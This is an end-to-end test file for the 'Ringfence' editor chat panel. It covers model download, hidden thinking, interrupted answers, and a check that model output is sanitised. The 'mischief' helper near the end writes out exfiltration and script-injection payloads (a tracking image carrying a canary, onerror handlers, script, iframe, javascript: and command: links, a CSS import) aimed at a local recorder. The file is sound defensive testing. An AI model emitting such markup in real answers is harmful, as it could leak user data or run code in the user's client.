import assert from 'node:assert/strict';
import type { Frame } from 'playwright-core';
import { startFakeOllama } from '../../support/fake-ollama/start.ts';
import { startRecorder } from '../../support/recorder.ts';
import { defineJourney } from '../support/journey.ts';
import type { Workbench } from '../support/workbench.ts';

const model = 'small:1b';

/** A person whose model is not there yet, whose server breaks off, and whose model writes what it should not. */
export const journey = defineJourney({
  name: 'chat in trouble',
  prepare: async () => {
    const elsewhere = await startRecorder();
    let broken = false;
    const ollama = await startFakeOllama({
      models: [],
      pullable: [
        {
          name: model,
          size: 1_000_000_000,
          capabilities: ['completion', 'thinking'],
          layers: [{ digest: `sha256:${'a'.repeat(64)}`, total: 1_000_000_000 }],
          stepBytes: 50_000_000,
          stepMs: 60,
        },
      ],
      answer: ({ prompt }) => ({
        thinking: 'Let me think about it.',
        text: answerTo(prompt, elsewhere.url),
      }),
      behaviour: ({ path }) =>
        broken && path === '/api/chat'
          ? { ending: { kind: 'error-frame', afterTokens: 2, message: 'the model fell over' } }
          : undefined,
      tokenMs: 10,
    });
    return {
      ollama,
      elsewhere,
      breakOff: (now: boolean) => {
        broken = now;
      },
      settings: {
        'ringfence.backends': [{ id: 'ollama', kind: 'ollama', url: ollama.url }],
        'ringfence.chat.model': `ollama/${model}`,
      },
      stop: async () => {
        await Promise.all([ollama.stop(), elsewhere.stop()]);
      },
    };
  },
  steps: {
    'a model that is missing is offered for download, with progress': async (workbench) => {
      await workbench.command('Ringfence: Ask Ringfence');
      const panel = await panelOf(workbench);
      await panel.getByText(`${model} is not installed yet.`).waitFor();
      await workbench.screenshot('missing');
      await panel.getByRole('button', { name: `Download ${model}` }).click();
      await panel.getByText(/MB of 1\.0 GB/).waitFor();
      await workbench.screenshot('pull');
      await panel.getByText('Ask about your code').waitFor();
      await panel.getByRole('button', { name: new RegExp(`Model: ${model}, this machine`) }).waitFor();
    },
    'thinking stands apart from the answer': async (workbench) => {
      const panel = await panelOf(workbench);
      await ask(panel, 'How are you?');
      const log = panel.getByRole('log');
      await log.getByText('All is well.').waitFor();
      assert.equal(await log.getByText('Let me think about it.').isVisible(), false);
      await log.getByText('Thought').click();
      await log.getByText('Let me think about it.').waitFor();
    },
    'an answer that breaks off keeps what came and offers another try': async (workbench, { breakOff }) => {
      const panel = await panelOf(workbench);
      breakOff(true);
      await ask(panel, 'And now?');
      await panel.locator('.problem').waitFor();
      await workbench.screenshot('broken');
      breakOff(false);
      await panel.locator('.problem').getByRole('button').click();
      await panel.locator('.problem').waitFor({ state: 'detached' });
      await panel.getByRole('log').getByText('All is well.').nth(1).waitFor();
    },
    'an answer goes on while the panel is hidden, and so does what was being written': async (
      workbench,
      { ollama },
    ) => {
      const panel = await panelOf(workbench);
      await panel.getByRole('textbox', { name: 'Ask Ringfence' }).fill('Count for long.');
      await panel.getByRole('button', { name: 'Send' }).click();
      await panel.getByText('1 2 3').waitFor();
      await panel.getByRole('textbox', { name: 'Ask Ringfence' }).fill('Half a question');
      await workbench.command('View: Toggle Secondary Side Bar Visibility');
      await workbench.eventually('the page to be gone', () => panel.isDetached());
      await workbench.eventually(
        'the server to have said everything',
        () => ollama.requests.findLast(({ path }) => path === '/api/chat')?.outcome === 'done',
      );
      await workbench.command('Ringfence: Ask Ringfence');
      const again = await panelOf(workbench);
      await again.getByRole('log').getByText('198 199 200').waitFor();
      assert.equal(await again.getByRole('textbox', { name: 'Ask Ringfence' }).inputValue(), 'Half a question');
    },
    'what a model writes opens, loads and runs nothing': async (workbench, { elsewhere }) => {
      const panel = await panelOf(workbench);
      await ask(panel, 'Do some mischief.');
      const last = panel.locator('.answer').last();
      await last.getByText('a picture').waitFor();
      assert.equal(await last.locator('img, iframe, script, style, form, object').count(), 0);
      assert.equal(await last.locator('[onerror], [onclick], [href], [src]').count(), 0);
      assert.equal(await panel.title(), 'Ringfence Chat');
      await workbench.screenshot('mischief');
      assert.deepEqual(elsewhere.requests, []);
    },
    'the page itself can reach no server': async (workbench, { elsewhere }) => {
      const panel = await panelOf(workbench);
      const outcome = await panel.evaluate(
        `fetch(${JSON.stringify(elsewhere.url)}).then(() => 'reached', () => 'blocked')`,
      );
      assert.equal(outcome, 'blocked');
      const picture = await panel.evaluate(`new Promise((resolve) => {
        const picture = new Image();
        picture.onload = () => resolve('loaded');
        picture.onerror = () => resolve('blocked');
        picture.src = ${JSON.stringify(`${elsewhere.url}/picture.png`)};
      })`);
      assert.equal(picture, 'blocked');
      assert.deepEqual(elsewhere.requests, []);
    },
  },
});

function answerTo(prompt: string, url: string): string {
  if (prompt.includes('mischief')) return mischief(url);
  return prompt.includes('Count') ? Array.from({ length: 200 }, (_, at) => at + 1).join(' ') : 'All is well.';
}

/** What a model could write to send something out or to act by itself. */
function mischief(url: string): string {
  return [
    `![a picture](${url}/leak.png?d=CANARY)`,
    `<img src="${url}/leak.png" onerror="document.title='run'">`,
    `<script>document.title = 'run'</script>`,
    `<iframe src="${url}"></iframe>`,
    `[a link](command:workbench.action.quit) and [one more](javascript:document.title='run')`,
    `\`\`\`html\n<img src="${url}/code.png" onerror="document.title='run'">\n\`\`\``,
    `<style>@import url("${url}/style.css");</style>`,
  ].join('\n\n');
}

function panelOf(workbench: Workbench): Promise<Frame> {
  return workbench.webviewFrame('textarea[aria-label="Ask Ringfence"]', 60_000);
}

/** Asks and waits until the answer has ended. */
async function ask(panel: Frame, text: string): Promise<void> {
  const answered = await panel.locator('.answer .answer-tools').count();
  await panel.getByRole('textbox', { name: 'Ask Ringfence' }).fill(text);
  await panel.getByRole('button', { name: 'Send' }).click();
  await panel.locator('.answer .answer-tools').nth(answered).waitFor();
}
